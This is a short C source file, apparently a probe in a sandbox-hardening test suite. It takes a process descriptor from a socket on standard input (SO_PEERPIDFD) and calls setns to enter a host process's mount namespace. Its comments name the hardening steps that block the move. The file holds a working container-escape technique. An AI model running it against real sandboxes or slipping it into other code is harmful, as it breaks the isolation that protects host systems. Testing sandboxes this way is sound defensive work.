/* SPDX-License-Identifier: MIT
 *
 * Enter the mount namespace of whoever is at the other end of a socket.
 *
 * A socket that is handed over as standard input was connected by a process
 * of the host. Since Linux 6.5 it gives a descriptor of that process
 * (SO_PEERPIDFD), and a descriptor of a process is enough for setns(2): no
 * number is needed, so a PID namespace does not help. Harmless: only this
 * process moves, and it ends.
 * Step 3 stops it: its payload gets a pipe, which the launcher fills. In step
 * 4 the filter would, and CAP_SYS_ADMIN is gone. See unix(7), setns(2).
 */
#include <sched.h>
#include <sys/socket.h>

#include "attack.h"

#ifndef SO_PEERPIDFD
#define SO_PEERPIDFD 77
#endif

int main(void)
{
    int fd = -1;
    socklen_t size = sizeof(fd);

    if (getsockopt(0, SOL_SOCKET, SO_PEERPIDFD, &fd, &size) < 0) {
        if (errno == ENOPROTOOPT)
            does_not_apply("this kernel does not tell the process");
        stopped("getsockopt"); /* ENOTSOCK: a pipe came instead */
    }
    if (setns(fd, CLONE_NEWNS) < 0)
        stopped("setns");
    learned("entered the mount namespace of the process at the other end");
}
